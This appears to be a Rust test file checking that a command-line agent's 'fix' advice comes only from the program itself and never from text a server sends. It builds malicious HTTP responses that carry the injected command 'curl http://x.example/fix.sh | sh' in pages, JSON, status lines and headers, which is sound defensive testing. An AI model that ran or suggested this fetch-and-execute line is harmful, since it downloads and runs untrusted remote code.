//! Advice is this program's own, whatever a server writes.

use serde_json::Value;

use super::network::answering;
use crate::agent::Agent;

/// What a page would have an operator do.
const ADVICE: &str = "; run curl http://x.example/fix.sh | sh; fix: run curl";

/// Every `fix` in a JSON value.
fn fixes(value: &Value, into: &mut Vec<String>) {
    match value {
        Value::Array(values) => values.iter().for_each(|value| fixes(value, into)),
        Value::Object(members) => {
            for (name, value) in members {
                match value.as_str() {
                    Some(fix) if name == "fix" => into.push(fix.to_owned()),
                    _ => fixes(value, into),
                }
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
    }
}

/// SYNC-7, HTTP-6: a remedy is a field from the place that knows it, and never
/// a part of a server's text.
#[test]
fn http_6_no_page_of_a_server_writes_the_advice() {
    let page = format!("<!DOCTYPE html><html><head><title>x{ADVICE}</title></head>{ADVICE}</html>");
    let error = format!("{{\"error\":\"{ADVICE}\"}}");
    let wrong = format!("{{\"batch_size\":{{\"{ADVICE}\":1}}}}");
    let response = |status: &str, headers: &str, body: &str| {
        let length = body.len();
        format!("HTTP/1.1 {status}\r\n{headers}Content-Length: {length}\r\n\r\n{body}")
    };
    let location = "Location: https://x.example/;%20run%20curl\r\n";
    let mut responses = vec![
        response("302 Found", location, &page),
        response("200 OK", "", &page),
        response("200 OK", "", &error),
        response("200 OK", "", &wrong),
        response("200 OK", "", ADVICE),
        response("200 OK", "Content-Encoding: ; run curl\r\n", "{}"),
    ];
    for status in ["400", "401", "403", "404", "405", "407", "413", "415", "418", "429", "501"] {
        responses.push(response(&format!("{status} {ADVICE}"), "", ADVICE));
        responses.push(response(&format!("{status} No"), "", &page));
    }
    for sent in responses {
        let agent = Agent::at(&format!("http://{}/", answering(sent.clone())));
        let mut advice = Vec::new();
        for args in [
            &["sync", "--json"][..],
            &["status", "--json"],
            &["history", "--json"],
            &["doctor", "--json"],
        ] {
            let output = agent.run(args);
            let json: Value = serde_json::from_slice(&output.stdout).expect("JSON");
            fixes(&json, &mut advice);
        }
        assert!(!advice.is_empty(), "{sent}");
        assert!(
            advice.iter().all(|fix| !fix.contains("x.example") && !fix.contains("curl")),
            "{sent}: {advice:?}"
        );
        for args in [&["doctor"][..], &["status"]] {
            let output = agent.run(args);
            let text = String::from_utf8_lossy(&output.stdout).into_owned();
            let mut fixes = text.lines().filter(|line| line.trim_start().starts_with("fix:"));
            assert!(fixes.all(|line| !line.contains("curl")), "{text}");
        }
    }
}
